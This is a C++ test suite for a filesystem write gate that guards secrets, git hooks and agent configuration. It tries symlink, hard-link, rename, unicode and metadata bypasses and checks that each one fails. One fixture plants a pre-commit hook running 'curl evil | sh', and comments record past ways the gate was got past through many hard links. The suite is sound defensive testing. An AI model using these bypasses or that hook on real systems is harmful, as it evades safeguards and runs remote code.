// Must-fail attacks on the write gate (issue #3, design §2, §3, §4, §4a). Every attack checks
// the errno (or exit status) it gets AND, after unmounting, that the underlying files are
// unchanged: bytes, mode, existence, link count, user xattrs and mtime (file_state()). Where an
// ordinary file is the control, the same operation on it succeeds, so a gate that refuses
// everything fails these tests too.
#include "support/mount_fixture.hpp"
#include "support/process.hpp"
#include "support/temp_dir.hpp"

#include <catch2/catch.hpp>

#include <array>
#include <cerrno>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <string>

#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

using namespace guardfs::test;

namespace {

namespace fs = std::filesystem;

const char* const kPolicy = "deny: [\".env\", \"*.pem\"]\n";

int set_user_x(const std::string& path, const std::string& value, int flags = 0) {
    return errno_of(::setxattr(path.c_str(), "user.x", value.data(), value.size(), flags));
}

// The directory beside the workspace (outside the mounted tree), from inside a setup callback.
std::string outside_of(const std::string& ws) {
    return fs::path(ws).parent_path().string() + "/outside";
}

// The value of a user xattr, or "<errno N>" when it cannot be read.
std::string xattr_of(const std::string& path, const char* name) {
    std::array<char, 256> buf{};
    const ssize_t n = ::getxattr(path.c_str(), name, buf.data(), buf.size());
    if (n < 0) {
        return "<errno " + std::to_string(errno) + ">";
    }
    return std::string(buf.data(), static_cast<std::size_t>(n));
}

uid_t owner_of(const std::string& path) {
    struct stat st {};

    REQUIRE(::lstat(path.c_str(), &st) == 0);
    return st.st_uid;
}

} // namespace

// ---- creating a guarded name anew --------------------------------------------------------

TEST_CASE("creating a guarded name anew fails in every spelling and by every kind of entry",
          "[integration][attack][create]") {
    const std::string name =
        GENERATE(as<std::string>{}, ".env", ".ENV", ".Env", "sub/.env", "sub/.eNv",
                 "sub/deeper/.env", "key.PEM", "sub/key.pem", "sub/deeper/Key.Pem");
    MountSpec spec;
    spec.policy_yaml = kPolicy;
    spec.setup = [](const std::string& ws) {
        write_file(ws + "/notes.txt", "notes\n");
        fs::create_directories(ws + "/sub/deeper");
    };
    MountedGuard g(spec);
    const FileState notes = file_state(g.ws("notes.txt"));
    const std::string target = g.ws(name);
    CAPTURE(name);
    // The control: names that only resemble a guarded one are created (segment-wise matching).
    CHECK(open_errno(g.ws("sub/.env.example"), O_WRONLY | O_CREAT) == 0);
    CHECK(errno_of(::mkdir(g.ws("sub/deeper/pem").c_str(), 0755)) == 0);

    SECTION("open with O_CREAT") {
        CHECK(open_errno(target, O_WRONLY | O_CREAT | O_EXCL) == EACCES);
        CHECK(open_errno(target, O_RDWR | O_CREAT) == EACCES);
        CHECK(open_errno(target, O_RDONLY | O_CREAT) == EACCES);
    }
    SECTION("mknod of a regular file") {
        CHECK(errno_of(::mknod(target.c_str(), S_IFREG | 0644, 0)) == EACCES);
    }
    SECTION("mkfifo") {
        CHECK(errno_of(::mkfifo(target.c_str(), 0644)) == EACCES);
    }
    SECTION("mkdir") {
        CHECK(errno_of(::mkdir(target.c_str(), 0755)) == EACCES);
    }
    SECTION("symlink with the guarded name") {
        CHECK(errno_of(::symlink("notes.txt", target.c_str())) == EACCES);
    }
    SECTION("link an ordinary file to the guarded name") {
        CHECK(errno_of(::link(g.ws("notes.txt").c_str(), target.c_str())) == EACCES);
    }
    SECTION("rename an ordinary file onto the guarded name") {
        CHECK(errno_of(::rename(g.ws("notes.txt").c_str(), target.c_str())) == EACCES);
    }
    CHECK(g.unmount() == 0);
    CHECK_FALSE(file_state(g.ws(name)).exists);
    CHECK(file_state(g.ws("notes.txt")) == notes);
    CHECK(file_state(g.ws("sub/.env.example")).exists);
    CHECK(fs::is_directory(g.ws("sub/deeper/pem")));
}

TEST_CASE("a decomposed unicode spelling of a guarded name is guarded too",
          "[integration][attack][create][unicode]") {
    // Policy row "caf\u00e9" in NFC; the attack spells it "cafe" + U+0301 (NFD), also in other
    // letter cases, below a subdirectory, and below an NFD-named directory made before the mount.
    const std::string nfc = std::string("caf") + "\xc3\xa9";
    const std::string nfd = std::string("cafe") + "\xcc\x81";
    const std::string name =
        GENERATE_COPY(as<std::string>{}, nfc, nfd, std::string("CAFE") + "\xcc\x81", "sub/" + nfd,
                      "pre/" + nfd + "/inner");
    MountSpec spec;
    spec.policy_yaml = "deny: [\"" + nfc + "\"]\n";
    spec.setup = [nfd](const std::string& ws) {
        write_file(ws + "/notes.txt", "notes\n");
        fs::create_directories(ws + "/sub");
        fs::create_directories(ws + "/pre/" + nfd);
    };
    MountedGuard g(spec);
    const FileState notes = file_state(g.ws("notes.txt"));
    const std::string target = g.ws(name);
    CAPTURE(name);
    // The control: another accented name ("cafe" + U+0300, a different letter) is created.
    const std::string other = std::string("cafe") + "\xcc\x80";
    CHECK(open_errno(g.ws("sub/" + other), O_WRONLY | O_CREAT) == 0);
    SECTION("open with O_CREAT") {
        CHECK(open_errno(target, O_WRONLY | O_CREAT) == EACCES);
    }
    SECTION("mkdir") {
        CHECK(errno_of(::mkdir(target.c_str(), 0755)) == EACCES);
    }
    SECTION("mkfifo") {
        CHECK(errno_of(::mkfifo(target.c_str(), 0644)) == EACCES);
    }
    SECTION("symlink with that name") {
        CHECK(errno_of(::symlink("notes.txt", target.c_str())) == EACCES);
    }
    SECTION("rename onto it") {
        CHECK(errno_of(::rename(g.ws("notes.txt").c_str(), target.c_str())) == EACCES);
    }
    CHECK(g.unmount() == 0);
    CHECK_FALSE(file_state(g.ws(name)).exists);
    CHECK(file_state(g.ws("notes.txt")) == notes);
    CHECK(file_state(g.ws("sub/" + other)).exists);
}

// ---- symbolic links ------------------------------------------------------------------------

namespace {

MountSpec with_links(const std::string& policy) {
    MountSpec spec;
    spec.policy_yaml = policy;
    spec.setup = [](const std::string& ws) {
        write_file(ws + "/.env", "SECRET=1\n", 0640);
        write_file(ws + "/notes.txt", "notes\n");
        fs::create_directory(ws + "/sub");
        // Links made before the mount, aimed at the guarded file.
        fs::create_symlink(".env", ws + "/link_env");
        fs::create_symlink("../.env", ws + "/sub/up_env");
        fs::create_symlink(ws + "/.env", ws + "/abs_env");
        fs::create_symlink("link_env", ws + "/chain_env"); // a link to a link to it
        const std::string out = outside_of(ws);
        write_file(out + "/.ssh/id_rsa", "PRIVATE KEY\n", 0600);
        write_file(out + "/plain.txt", "plain\n");
    };
    return spec;
}

const char* const kLinkPolicy = "deny: [\".env\", \"*.pem\", \".ssh\"]\n";

} // namespace

TEST_CASE("writing through a symlink made before the mount that points at .env fails",
          "[integration][attack][symlink]") {
    const std::string link =
        GENERATE(as<std::string>{}, "link_env", "sub/up_env", "abs_env", "chain_env");
    MountedGuard g(with_links(kLinkPolicy));
    const FileState env = file_state(g.ws(".env"));
    const FileState link_before = file_state(g.ws(link));
    CAPTURE(link);
    // Reading through it works: the read face is not on.
    CHECK(read_file(g.ws(link)) == "SECRET=1\n");
    CHECK(open_errno(g.ws(link), O_WRONLY) == EACCES);
    CHECK(open_errno(g.ws(link), O_RDWR) == EACCES);
    CHECK(open_errno(g.ws(link), O_WRONLY | O_APPEND) == EACCES);
    CHECK(open_errno(g.ws(link), O_RDONLY | O_TRUNC) == EACCES);
    CHECK(errno_of(::truncate(g.ws(link).c_str(), 0)) == EACCES);
    CHECK(errno_of(::chmod(g.ws(link).c_str(), 0666)) == EACCES);
    RunOptions o;
    o.cwd = g.ws();
    const auto r = sh("echo x > '" + link + "'", o);
    CAPTURE(r.err);
    CHECK(r.exit_code != 0);
    CHECK(g.unmount() == 0);
    CHECK(file_state(g.ws(".env")) == env);
    CHECK(file_state(g.ws(link)) == link_before);
}

TEST_CASE("making a symlink aimed at a guarded path inside the tree fails",
          "[integration][attack][symlink]") {
    MountedGuard g(with_links(kLinkPolicy));
    const FileState env = file_state(g.ws(".env"));

    struct Attempt {
        std::string target;
        std::string link;
    };

    const std::array<Attempt, 7> attempts{{
        {".env", "alias"},
        {"../.env", "sub/notes"},
        {g.ws(".env"), "sub/abs"},   // absolute, as the agent spells the mount
        {"sub/../.env", "dotdot"},   // resolved lexically against the link's directory
        {"./.ENV", "other_case"},    // case folded
        {"../sub/../.env", "sub/x"}, // a longer detour
        {"key.pem", "to_pem"},       // a guarded name that does not exist yet
    }};
    for (const auto& a : attempts) {
        CAPTURE(a.target, a.link);
        CHECK(errno_of(::symlink(a.target.c_str(), g.ws(a.link).c_str())) == EACCES);
    }
    // The control: a link to an ordinary file is made.
    CHECK(errno_of(::symlink("notes.txt", g.ws("to_notes").c_str())) == 0);
    CHECK(g.unmount() == 0);
    CHECK(file_state(g.ws(".env")) == env);
    for (const auto& a : attempts) {
        CAPTURE(a.link);
        CHECK_FALSE(file_state(g.ws(a.link)).exists);
    }
    CHECK_FALSE(file_state(g.ws("key.pem")).exists);
    CHECK(fs::read_symlink(g.ws("to_notes")) == "notes.txt");
}

TEST_CASE("making a symlink aimed at a guarded path outside the tree fails",
          "[integration][attack][symlink]") {
    MountedGuard g(with_links(kLinkPolicy));
    const std::string out = g.root() + "/outside";
    const FileState key = file_state(out + "/.ssh/id_rsa");
    const std::string target = GENERATE_COPY(as<std::string>{}, out + "/.ssh/id_rsa", out + "/.ssh",
                                             "../outside/.ssh/id_rsa",
                                             out + "/.ssh/authorized_keys", out + "/.SSH/id_rsa");
    CAPTURE(target);
    CHECK(errno_of(::symlink(target.c_str(), g.ws("k").c_str())) == EACCES);
    CHECK(errno_of(::symlink(target.c_str(), g.ws("sub/k").c_str())) == EACCES);
    CHECK(g.unmount() == 0);
    CHECK_FALSE(file_state(g.ws("k")).exists);
    CHECK_FALSE(file_state(g.ws("sub/k")).exists);
    CHECK(file_state(out + "/.ssh/id_rsa") == key);
    CHECK_FALSE(file_state(out + "/.ssh/authorized_keys").exists);
}

TEST_CASE("a symlink leaving the tree is refused under links_out ask without an approver",
          "[integration][attack][symlink][links_out]") {
    MountedGuard g(with_links(std::string(kLinkPolicy) + "links_out: ask\n"));
    const std::string out = g.root() + "/outside";
    const std::string target =
        GENERATE_COPY(as<std::string>{}, out + "/plain.txt", "../outside/plain.txt", "/usr/bin/env",
                      "../../../../../../../../etc/hostname");
    CAPTURE(target);
    CHECK(errno_of(::symlink(target.c_str(), g.ws("out").c_str())) == EACCES);
    // A link that stays inside the tree is not asked about.
    CHECK(errno_of(::symlink("notes.txt", g.ws("in").c_str())) == 0);
    CHECK(errno_of(::symlink("../notes.txt", g.ws("sub/in").c_str())) == 0);
    CHECK(g.unmount() == 0);
    CHECK_FALSE(file_state(g.ws("out")).exists);
    CHECK(fs::read_symlink(g.ws("in")) == "notes.txt");
    CHECK(fs::read_symlink(g.ws("sub/in")) == "../notes.txt");
}

TEST_CASE("a symlink leaving the tree is made under the default links_out",
          "[integration][attack][symlink][links_out]") {
    MountedGuard g(with_links(kLinkPolicy));
    const std::string out = g.root() + "/outside";
    const std::string target =
        GENERATE_COPY(as<std::string>{}, out + "/plain.txt", "../outside/plain.txt", "/usr/bin/env",
                      "../../../../../../../../etc/hostname");
    CAPTURE(target);
    REQUIRE(errno_of(::symlink(target.c_str(), g.ws("out").c_str())) == 0);
    CHECK(fs::read_symlink(g.ws("out")) == target);
    CHECK(g.unmount() == 0);
    CHECK(fs::read_symlink(g.ws("out")) == target);
    CHECK(read_file(out + "/plain.txt") == "plain\n");
}

// ---- git: renames that move or plant what git runs ---------------------------------------

namespace {

void make_repo(const std::string& dir) {
    write_file(dir + "/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n", 0755);
    write_file(dir + "/.git/HEAD", "ref: refs/heads/main\n");
    write_file(dir + "/README", "readme\n");
}

} // namespace

TEST_CASE("renaming .git away or renaming a prepared directory to .git fails",
          "[integration][attack][git][rename]") {
    // The pattern row alone (git tier off), then the built-in git tier alone (an empty file).
    const std::string policy =
        GENERATE(as<std::string>{}, "deny: [\".git/hooks\"]\ngit: false\n", "");
    CAPTURE(policy);
    MountSpec spec;
    spec.policy_yaml = policy;
    spec.setup = [](const std::string& ws) {
        make_repo(ws);
        // Prepared elsewhere: a directory holding hooks/pre-commit, and an empty one.
        write_file(ws + "/proj/.gitx/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0755);
        fs::create_directories(ws + "/proj/.gity");
        fs::create_directory(ws + "/sub");
    };
    MountedGuard g(spec);
    const FileState hook = file_state(g.ws(".git/hooks/pre-commit"));
    const FileState planted = file_state(g.ws("proj/.gitx/hooks/pre-commit"));

    SECTION("moving .git away") {
        CHECK(errno_of(::rename(g.ws(".git").c_str(), g.ws("git-old").c_str())) == EACCES);
        CHECK(errno_of(::rename(g.ws(".git").c_str(), g.ws("sub/moved").c_str())) == EACCES);
    }
    SECTION("moving .git/hooks away") {
        CHECK(errno_of(::rename(g.ws(".git/hooks").c_str(), g.ws(".git/hooks-off").c_str())) ==
              EACCES);
    }
    SECTION("renaming a prepared directory with hooks to .git") {
        CHECK(errno_of(::rename(g.ws("proj/.gitx").c_str(), g.ws("proj/.git").c_str())) == EACCES);
    }
    SECTION("renaming an empty directory to .git before the guarded path exists") {
        CHECK(errno_of(::rename(g.ws("proj/.gity").c_str(), g.ws("proj/.git").c_str())) == EACCES);
    }
    SECTION("renaming a prepared directory over the hooks directory") {
        CHECK(errno_of(::rename(g.ws("proj/.gitx/hooks").c_str(), g.ws(".git/hooks").c_str())) ==
              EACCES);
    }
    CHECK(g.unmount() == 0);
    CHECK(file_state(g.ws(".git/hooks/pre-commit")) == hook);
    CHECK(file_state(g.ws("proj/.gitx/hooks/pre-commit")) == planted);
    CHECK(fs::is_directory(g.ws("proj/.gity")));
    CHECK_FALSE(file_state(g.ws("proj/.git")).exists);
    CHECK_FALSE(file_state(g.ws("git-old")).exists);
    CHECK_FALSE(file_state(g.ws("sub/moved")).exists);
    CHECK_FALSE(file_state(g.ws(".git/hooks-off")).exists);
}

TEST_CASE("moving a whole repository directory succeeds and its hooks stay guarded",
          "[integration][attack][git][rename]") {
    const std::string policy =
        GENERATE(as<std::string>{}, "deny: [\".git/hooks\"]\ngit: false\n", "");
    CAPTURE(policy);
    MountSpec spec;
    spec.policy_yaml = policy;
    spec.setup = [](const std::string& ws) {
        make_repo(ws + "/repo");
        fs::create_directory(ws + "/sub");
    };
    MountedGuard g(spec);
    const FileState hook = file_state(g.ws("repo/.git/hooks/pre-commit"));
    REQUIRE(errno_of(::rename(g.ws("repo").c_str(), g.ws("repo2").c_str())) == 0);
    REQUIRE(errno_of(::rename(g.ws("repo2").c_str(), g.ws("sub/repo3").c_str())) == 0);
    CHECK(read_file(g.ws("sub/repo3/README")) == "readme\n");
    // Still guarded where it landed.
    CHECK(open_errno(g.ws("sub/repo3/.git/hooks/pre-commit"), O_WRONLY) == EACCES);
    CHECK(errno_of(::rename(g.ws("sub/repo3/.git").c_str(), g.ws("sub/repo3/old").c_str())) ==
          EACCES);
    CHECK(g.unmount() == 0);
    CHECK_FALSE(file_state(g.ws("repo")).exists);
    CHECK_FALSE(file_state(g.ws("repo2")).exists);
    CHECK(file_state(g.ws("sub/repo3/.git/hooks/pre-commit")) == hook);
}

TEST_CASE("moving a directory that holds a .env succeeds and the .env stays guarded",
          "[integration][attack][rename]") {
    MountSpec spec;
    spec.policy_yaml = kPolicy;
    spec.setup = [](const std::string& ws) {
        write_file(ws + "/cfg/.env", "SECRET=1\n", 0600);
        write_file(ws + "/cfg/app.toml", "x = 1\n");
        fs::create_directory(ws + "/dest");
    };
    MountedGuard g(spec);
    const FileState env = file_state(g.ws("cfg/.env"));
    REQUIRE(errno_of(::rename(g.ws("cfg").c_str(), g.ws("dest/cfg2").c_str())) == 0);
    CHECK(read_file(g.ws("dest/cfg2/app.toml")) == "x = 1\n");
    CHECK(open_errno(g.ws("dest/cfg2/.env"), O_WRONLY) == EACCES);
    CHECK(errno_of(::truncate(g.ws("dest/cfg2/.env").c_str(), 0)) == EACCES);
    CHECK(errno_of(::unlink(g.ws("dest/cfg2/.env").c_str())) == EACCES);
    CHECK(g.unmount() == 0);
    CHECK_FALSE(file_state(g.ws("cfg")).exists);
    CHECK(file_state(g.ws("dest/cfg2/.env")) == env);
}

// ---- a hard link made before the mount ----------------------------------------------------

TEST_CASE("writing through another hard link of .env fails once the guard has seen .env",
          "[integration][attack][hardlink]") {
    // design §3: "for an inode with several hard links: every name the guard has seen for it".
    // A second name made before the mount is judged by the guarded name once the guard has
    // looked that name up (here: stat .env), whichever name was looked up first.
    MountSpec spec;
    spec.policy_yaml = kPolicy;
    spec.setup = [](const std::string& ws) {
        write_file(ws + "/.env", "SECRET=1\n", 0640);
        fs::create_directory(ws + "/sub");
        fs::create_hard_link(ws + "/.env", ws + "/sub/alias");
        ::setxattr((ws + "/.env").c_str(), "user.x", "1", 1, 0);
    };
    MountedGuard g(spec);
    const FileState env = file_state(g.ws(".env"));
    REQUIRE(env.nlink == 2);

    struct stat st {};

    SECTION("the other name looked up first") {
        REQUIRE(::stat(g.ws("sub/alias").c_str(), &st) == 0);
        REQUIRE(::stat(g.ws(".env").c_str(), &st) == 0);
    }
    SECTION("the guarded name looked up first") {
        REQUIRE(::stat(g.ws(".env").c_str(), &st) == 0);
        REQUIRE(::stat(g.ws("sub/alias").c_str(), &st) == 0);
    }
    CHECK(st.st_nlink == 2);
    const std::string alias = g.ws("sub/alias");
    CHECK(read_file(alias) == "SECRET=1\n");
    CHECK(open_errno(alias, O_WRONLY) == EACCES);
    CHECK(open_errno(alias, O_RDWR | O_APPEND) == EACCES);
    CHECK(open_errno(alias, O_RDONLY | O_TRUNC) == EACCES);
    CHECK(errno_of(::truncate(alias.c_str(), 0)) == EACCES);
    CHECK(errno_of(::chmod(alias.c_str(), 0666)) == EACCES);
    CHECK(set_user_x(alias, "2") == EACCES);
    CHECK(errno_of(::link(alias.c_str(), g.ws("third").c_str())) == EACCES);
    CHECK(g.unmount() == 0);
    CHECK(file_state(g.ws(".env")) == env);
    CHECK_FALSE(file_state(g.ws("third")).exists);
}

TEST_CASE("a guarded name seen once keeps guarding after many other names of the file",
          "[integration][attack][hardlink]") {
    // design §3: "Once any name of an inode was guarded, the inode carries that verdict". The
    // daemon keeps at most 32 names per inode; a review (2026-12-07) made 33 links of a .env's
    // other name first, and the guarded name, looked up after, was dropped: the file was
    // writable through every name.
    MountSpec spec;
    spec.policy_yaml = kPolicy;
    spec.setup = [](const std::string& ws) {
        write_file(ws + "/.env", "SECRET=1\n", 0640);
        fs::create_hard_link(ws + "/.env", ws + "/nb");
        fs::create_directory(ws + "/L");
    };
    MountedGuard g(spec);
    for (int i = 1; i <= 40; ++i) {
        REQUIRE(::link(g.ws("nb").c_str(), g.ws("L/n" + std::to_string(i)).c_str()) == 0);
    }

    struct stat st {};

    REQUIRE(::stat(g.ws(".env").c_str(), &st) == 0);
    for (const char* name : {"nb", "L/n5", "L/n40"}) {
        CAPTURE(name);
        CHECK(open_errno(g.ws(name), O_WRONLY | O_APPEND) == EACCES);
    }
    CHECK(g.unmount() == 0);
    CHECK(read_file(g.ws(".env")) == "SECRET=1\n");
}

TEST_CASE("a denied name seen after the full list of a file's names were asking names still "
          "denies",
          "[integration][attack][hardlink]") {
    // The full list keeps a guarded name over a name the policy lets through (above); a review
    // (2026-12-07) found it did not keep a deny name over ask names: 40 links under an ask-tier
    // directory seen first, then .env, and once the approver allowed writes in that directory
    // (remembered for the mount) the file was writable through every name. The approver here
    // allows everything, so only the deny name refuses.
    MountSpec spec;
    spec.policy_yaml = "deny: [\".env\"]\nask: [\"A\"]\n";
    spec.extra_args = {"--approver", "python3 " + std::string(GUARDFS_SOURCE_DIR) +
                                         "/tests/support/approvers/double.py"};
    spec.env = {
        {"APPROVER_MODE", "allow"}, {"APPROVER_REMEMBER", "mount"}, {"APPROVER_SCOPE", "dir"}};
    spec.setup = [](const std::string& ws) {
        write_file(ws + "/.env", "SECRET=1\n", 0640);
        fs::create_hard_link(ws + "/.env", ws + "/nb");
        fs::create_directory(ws + "/A");
        for (int i = 1; i <= 40; ++i) {
            fs::create_hard_link(ws + "/.env", ws + "/A/n" + std::to_string(i));
        }
    };
    MountedGuard g(spec);

    struct stat st {};

    for (int i = 1; i <= 40; ++i) {
        REQUIRE(::stat(g.ws("A/n" + std::to_string(i)).c_str(), &st) == 0);
    }
    REQUIRE(::stat(g.ws(".env").c_str(), &st) == 0);
    for (const char* name : {"nb", "A/n1", "A/n40"}) {
        CAPTURE(name);
        CHECK(write_text(g.ws(name), "x\n", O_APPEND) == EACCES);
    }
    // The control: the approver allows writes in A.
    CHECK(write_text(g.ws("A/other.txt"), "other\n") == 0);
    CHECK(g.unmount() == 0);
    CHECK(read_file(g.ws(".env")) == "SECRET=1\n");
    CHECK(read_file(g.ws("A/other.txt")) == "other\n");
}

// ---- renameat2 flags -----------------------------------------------------------------------

TEST_CASE("RENAME_EXCHANGE of a guarded file with an ordinary file fails both ways",
          "[integration][attack][rename][exchange]") {
    MountSpec spec;
    spec.policy_yaml = kPolicy;
    spec.setup = [](const std::string& ws) {
        write_file(ws + "/.env", "SECRET=1\n", 0640);
        write_file(ws + "/notes.txt", "notes\n");
        write_file(ws + "/sub/other.txt", "other\n");
        write_file(ws + "/sub/key.pem", "KEY\n", 0600);
    };
    MountedGuard g(spec);
    const FileState env = file_state(g.ws(".env"));
    const FileState notes = file_state(g.ws("notes.txt"));
    const FileState other = file_state(g.ws("sub/other.txt"));
    const FileState key = file_state(g.ws("sub/key.pem"));
    auto exchange = [&](const std::string& a, const std::string& b) {
        return errno_of(
            ::renameat2(AT_FDCWD, g.ws(a).c_str(), AT_FDCWD, g.ws(b).c_str(), RENAME_EXCHANGE));
    };
    CHECK(exchange(".env", "notes.txt") == EACCES);
    CHECK(exchange("notes.txt", ".env") == EACCES);
    CHECK(exchange("sub/other.txt", ".env") == EACCES);
    CHECK(exchange("sub/key.pem", "notes.txt") == EACCES);
    CHECK(exchange(".env", "sub/key.pem") == EACCES);
    CHECK(exchange(".env", "sub") == EACCES);
    // The control: two ordinary files are exchanged.
    CHECK(exchange("notes.txt", "sub/other.txt") == 0);
    CHECK(read_file(g.ws("notes.txt")) == "other\n");
    CHECK(exchange("notes.txt", "sub/other.txt") == 0);
    CHECK(g.unmount() == 0);
    CHECK(file_state(g.ws(".env")) == env);
    CHECK(file_state(g.ws("sub/key.pem")) == key);
    CHECK(file_state(g.ws("notes.txt")).bytes == notes.bytes);
    CHECK(file_state(g.ws("sub/other.txt")).bytes == other.bytes);
}

TEST_CASE("RENAME_NOREPLACE onto an existing ordinary file gives EEXIST as on a native directory",
          "[integration][attack][rename][noreplace]") {
    auto prepare = [](const std::string& dir) {
        write_file(dir + "/a.txt", "a\n");
        write_file(dir + "/b.txt", "b\n");
    };
    auto attempt = [](const std::string& dir) {
        const int onto = errno_of(::renameat2(AT_FDCWD, (dir + "/a.txt").c_str(), AT_FDCWD,
                                              (dir + "/b.txt").c_str(), RENAME_NOREPLACE));
        const int fresh = errno_of(::renameat2(AT_FDCWD, (dir + "/a.txt").c_str(), AT_FDCWD,
                                               (dir + "/c.txt").c_str(), RENAME_NOREPLACE));
        return std::pair{onto, fresh};
    };
    std::pair<int, int> native_result;
    std::string native_b;
    std::string native_c;
    {
        const TempDir native;
        prepare(native.path());
        native_result = attempt(native.path());
        native_b = read_file(native / "b.txt");
        native_c = read_file(native / "c.txt");
    }
    CHECK(native_result == std::pair{EEXIST, 0});

    MountSpec spec;
    spec.policy_yaml = kPolicy;
    spec.setup = prepare;
    MountedGuard g(spec);
    const auto guarded_result = attempt(g.ws());
    CHECK(guarded_result == native_result);
    CHECK(g.unmount() == 0);
    CHECK(read_file(g.ws("b.txt")) == native_b);
    CHECK(read_file(g.ws("c.txt")) == native_c);
    CHECK_FALSE(file_state(g.ws("a.txt")).exists);
}

// ---- truncation ----------------------------------------------------------------------------

TEST_CASE("truncating .env fails while truncating an ordinary file works",
          "[integration][attack][truncate]") {
    MountSpec spec;
    spec.policy_yaml = kPolicy;
    spec.setup = [](const std::string& ws) {
        write_file(ws + "/.env", "SECRET=1\n", 0640);
        write_file(ws + "/notes.txt", "notes\n");
        write_file(ws + "/other.txt", "other text\n");
    };
    MountedGuard g(spec);
    const FileState env = file_state(g.ws(".env"));
    CHECK(open_errno(g.ws(".env"), O_RDONLY | O_TRUNC) == EACCES);
    CHECK(open_errno(g.ws(".env"), O_WRONLY | O_TRUNC) == EACCES);
    CHECK(errno_of(::truncate(g.ws(".env").c_str(), 0)) == EACCES);
    CHECK(errno_of(::truncate(g.ws(".env").c_str(), 100)) == EACCES);
    // An ordinary file: truncate(2), and ftruncate on an O_RDWR descriptor.
    CHECK(errno_of(::truncate(g.ws("notes.txt").c_str(), 3)) == 0);
    const int fd = ::open(g.ws("other.txt").c_str(), O_RDWR | O_CLOEXEC);
    REQUIRE(fd >= 0);
    CHECK(errno_of(::ftruncate(fd, 5)) == 0);
    CHECK(errno_of(::ftruncate(fd, 8)) == 0);
    ::close(fd);
    CHECK(read_file(g.ws("notes.txt")) == "not");
    CHECK(read_file(g.ws("other.txt")) == std::string("other\0\0\0", 8));
    CHECK(g.unmount() == 0);
    CHECK(file_state(g.ws(".env")) == env);
    CHECK(read_file(g.ws("notes.txt")) == "not");
    CHECK(read_file(g.ws("other.txt")) == std::string("other\0\0\0", 8));
}

// ---- metadata: xattrs, times, owner -------------------------------------------------------

TEST_CASE("xattrs times and owner of .env cannot be changed but those of an ordinary file can",
          "[integration][attack][metadata]") {
    MountSpec spec;
    spec.policy_yaml = kPolicy;
    spec.setup = [](const std::string& ws) {
        for (const char* f : {"/.env", "/notes.txt"}) {
            write_file(ws + f, "content\n", 0640);
            REQUIRE(::setxattr((ws + f).c_str(), "user.x", "1", 1, 0) == 0);
            REQUIRE(::setxattr((ws + f).c_str(), "user.y", "2", 1, 0) == 0);
        }
    };
    MountedGuard g(spec);
    const FileState env = file_state(g.ws(".env"));
    const uid_t env_owner = owner_of(g.ws(".env"));
    const struct timespec times[2] = {{1000000000, 0}, {1000000000, 0}};

    SECTION("setxattr") {
        CHECK(set_user_x(g.ws(".env"), "changed") == EACCES);
        CHECK(set_user_x(g.ws(".env"), "changed", XATTR_REPLACE) == EACCES);
        CHECK(errno_of(::setxattr(g.ws(".env").c_str(), "user.new", "v", 1, XATTR_CREATE)) ==
              EACCES);
        CHECK(set_user_x(g.ws("notes.txt"), "changed") == 0);
        CHECK(g.unmount() == 0);
        CHECK(xattr_of(g.ws("notes.txt"), "user.x") == "changed");
        CHECK(xattr_of(g.ws("notes.txt"), "user.y") == "2");
    }
    SECTION("removexattr") {
        CHECK(errno_of(::removexattr(g.ws(".env").c_str(), "user.x")) == EACCES);
        CHECK(errno_of(::removexattr(g.ws("notes.txt").c_str(), "user.x")) == 0);
        CHECK(g.unmount() == 0);
        CHECK(xattr_of(g.ws("notes.txt"), "user.x") == "<errno " + std::to_string(ENODATA) + ">");
        CHECK(xattr_of(g.ws("notes.txt"), "user.y") == "2");
    }
    SECTION("utimensat") {
        CHECK(errno_of(::utimensat(AT_FDCWD, g.ws(".env").c_str(), times, 0)) == EACCES);
        CHECK(errno_of(::utimensat(AT_FDCWD, g.ws(".env").c_str(), nullptr, 0)) == EACCES);
        CHECK(errno_of(::utimensat(AT_FDCWD, g.ws("notes.txt").c_str(), times, 0)) == 0);
        CHECK(g.unmount() == 0);
        CHECK(file_state(g.ws("notes.txt")).mtime_ns == 1000000000L * 1000000000L);
    }
    SECTION("chown to another uid") {
        CHECK(errno_of(::chown(g.ws(".env").c_str(), 1, 1)) == EACCES);
        CHECK(errno_of(::chown(g.ws(".env").c_str(), static_cast<uid_t>(-1), 1)) == EACCES);
        CHECK(errno_of(::chown(g.ws("notes.txt").c_str(), 1, 1)) == 0);
        CHECK(g.unmount() == 0);
        CHECK(owner_of(g.ws("notes.txt")) == 1);
    }
    CHECK_FALSE(g.mounted());
    CHECK(file_state(g.ws(".env")) == env);
    CHECK(owner_of(g.ws(".env")) == env_owner);
}

// ---- mmap ----------------------------------------------------------------------------------

TEST_CASE("a shared writable mapping of .env cannot be had", "[integration][attack][mmap]") {
    MountSpec spec;
    spec.policy_yaml = kPolicy;
    spec.setup = [](const std::string& ws) {
        write_file(ws + "/.env", "SECRET=1\n", 0640);
    };
    MountedGuard g(spec);
    const FileState env = file_state(g.ws(".env"));
    // Opening for read and write, which a MAP_SHARED|PROT_WRITE mapping needs, fails at open.
    CHECK(open_errno(g.ws(".env"), O_RDWR) == EACCES);
    // A read-only descriptor gives no shared writable mapping (the kernel's rule) ...
    const int fd = ::open(g.ws(".env").c_str(), O_RDONLY | O_CLOEXEC);
    REQUIRE(fd >= 0);
    errno = 0;
    void* shared = ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    const int shared_errno = errno;
    CHECK(shared == MAP_FAILED);
    CHECK(shared_errno == EACCES);
    if (shared != MAP_FAILED) {
        ::munmap(shared, 4096);
    }
    // ... and a private one is copy-on-write: writing it leaves the file alone.
    void* priv = ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
    REQUIRE(priv != MAP_FAILED);
    std::memcpy(priv, "HACKED", 6);
    ::msync(priv, 4096, MS_SYNC);
    ::munmap(priv, 4096);
    ::close(fd);
    CHECK(read_file(g.ws(".env")) == "SECRET=1\n");
    CHECK(g.unmount() == 0);
    CHECK(file_state(g.ws(".env")) == env);
}

// ---- the agent-configuration tier ---------------------------------------------------------

TEST_CASE("agent configuration files and directories cannot be written without an approver",
          "[integration][attack][agent_config]") {
    MountSpec spec;
    spec.policy_yaml = kPolicy; // agent_config is on by default in a file
    spec.setup = [](const std::string& ws) {
        write_file(ws + "/.claude/settings.json", "{}\n");
        write_file(ws + "/.claude/notes-old.md", "old\n");
        write_file(ws + "/.mcp.json", "{\"mcpServers\": {}}\n");
